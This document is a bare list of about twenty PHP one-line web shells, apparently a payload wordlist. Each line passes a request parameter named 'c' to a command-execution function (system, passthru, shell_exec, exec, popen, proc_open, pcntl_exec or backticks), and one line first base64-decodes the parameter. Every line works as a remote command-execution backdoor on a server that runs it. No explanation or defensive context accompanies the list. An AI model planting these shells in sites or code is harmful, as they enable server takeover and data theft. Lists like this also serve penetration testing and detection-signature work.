<?php system($_POST['c']); ?>
<?php system($_REQUEST['c']); ?>
<?php system(base64_decode($_GET['c'])); ?>
<?php passthru($_GET['c']); ?>
<?php passthru($_REQUEST['c']); ?>
<?php echo shell_exec($_GET['c']); ?>
<?php echo shell_exec($_POST['c']); ?>
<?php echo shell_exec($_REQUEST['c']); ?>
<?php exec($_GET['c'], $o); print_r($o); ?>
<?php exec($_POST['c'], $o); print_r($o); ?>
<?php exec($_REQUEST['c'], $o); print_r($o); ?>
<?php $h = popen($_GET['c'], 'r'); echo fread($h, 4096); ?>
<?php $h = popen($_POST['c'], 'r'); echo fread($h, 4096); ?>
<?php $h = popen($_REQUEST['c'], 'r'); echo fread($h, 4096); ?>
<?php $p = proc_open($_GET['c'], array(1 => array('pipe', 'w')), $pipes); ?>
<?php $p = proc_open($_POST['c'], array(1 => array('pipe', 'w')), $pipes); ?>
<?php $p = proc_open($_REQUEST['c'], array(1 => array('pipe', 'w')), $pipes); ?>
<?php pcntl_exec($_GET['c']); ?>
<?php $o = `$_POST[c]`; echo $o; ?>
<?php $o = `$_GET[c]`; echo $o; ?>
<?php $o = `$_REQUEST[c]`; echo $o; ?>
